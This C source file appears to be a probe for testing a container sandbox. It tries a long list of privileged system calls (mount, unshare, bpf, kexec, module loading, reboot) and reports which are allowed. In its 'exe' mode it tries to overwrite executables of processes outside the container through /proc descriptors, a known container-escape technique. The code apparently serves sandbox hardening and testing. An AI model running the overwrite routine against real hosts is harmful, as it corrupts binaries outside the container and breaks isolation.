/* What an attacker runs inside a container: `probe calls` tries forbidden system calls and prints NAME=ERRNO for each;
   `probe exe` tries to write to the executable of every process it sees; `probe fds` lists open descriptors. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void tell(const char *name, long result) {
    printf("%s=%s\n", name, result >= 0 ? "ALLOWED" : strerrorname_np(errno));
}

static void calls(void) {
    char args[128] = {0};
    tell("af_alg", socket(38, SOCK_SEQPACKET, 0));
    tell("af_vsock", socket(40, SOCK_STREAM, 0));
    tell("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -3, 0));
    tell("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
    tell("request_key", syscall(SYS_request_key, "user", "x", 0, -3));
    tell("unshare_user", unshare(CLONE_NEWUSER));
    tell("unshare_mount", unshare(CLONE_NEWNS));
    tell("mount", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, 0));
    tell("umount", syscall(SYS_umount2, "/proc", 2));
    tell("open_tree", syscall(428, -100, "/", 1));
    tell("fsopen", syscall(430, "tmpfs", 0));
    tell("mount_setattr", syscall(442, -100, "/", 0, args, 32));
    tell("pivot_root", syscall(SYS_pivot_root, ".", "."));
    tell("setns", syscall(SYS_setns, 0, 0));
    tell("bpf", syscall(SYS_bpf, 0, args, sizeof args));
    tell("userfaultfd", syscall(SYS_userfaultfd, 0));
    tell("io_uring", syscall(425, 1, args));
    tell("perf", syscall(SYS_perf_event_open, args, 0, -1, -1, 0));
    tell("kexec", syscall(SYS_kexec_load, 0, 0, 0, 0));
    tell("module", syscall(SYS_init_module, args, 1, ""));
    tell("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
    tell("swapon", syscall(SYS_swapon, "/nothing", 0));
    tell("open_by_handle", syscall(SYS_open_by_handle_at, -100, args, 0));
    tell("acct", syscall(SYS_acct, "/tmp/acct"));
    tell("settime", syscall(SYS_settimeofday, args, 0));
    tell("quotactl", syscall(SYS_quotactl, 0, 0, 0, 0));
    tell("unknown", syscall(9999));
    tell("getpid", syscall(SYS_getpid));
}

/* Writes through a descriptor of another process's executable, kept from before it was replaced. */
static void attack_executables(int seconds) {
    time_t end = time(NULL) + seconds;
    long seen = 0, wrote = 0;
    struct stat own, root, other;
    stat("/proc/self/exe", &own);
    stat("/", &root);
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char path[300];
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            /* What is on the container's root, and this program, are the container's own. */
            if (fstat(fd, &other) == 0 && other.st_ino != own.st_ino && other.st_dev != root.st_dev) {
                seen++;
                snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                for (int attempt = 0; attempt < 50; attempt++) {
                    int writer = open(path, O_WRONLY | O_CLOEXEC);
                    if (writer >= 0) {
                        if (write(writer, "overwritten", 11) == 11)
                            wrote++;
                        close(writer);
                    }
                    if (attempt > 2 && errno != ETXTBSY)
                        break;
                }
            }
            close(fd);
        }
        if (proc)
            closedir(proc);
    }
    printf("seen=%ld wrote=%ld\n", seen, wrote);
}

static void descriptors(void) {
    for (int fd = 0; fd < 1024; fd++) {
        char path[64], target[256];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length >= 0) {
            target[length] = 0;
            printf("%d %s\n", fd, target);
        }
    }
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "calls"))
        calls();
    else if (!strcmp(what, "exe"))
        attack_executables(argc > 2 ? atoi(argv[2]) : 1);
    else if (!strcmp(what, "fds"))
        descriptors();
    else
        return 2;
    return 0;
}
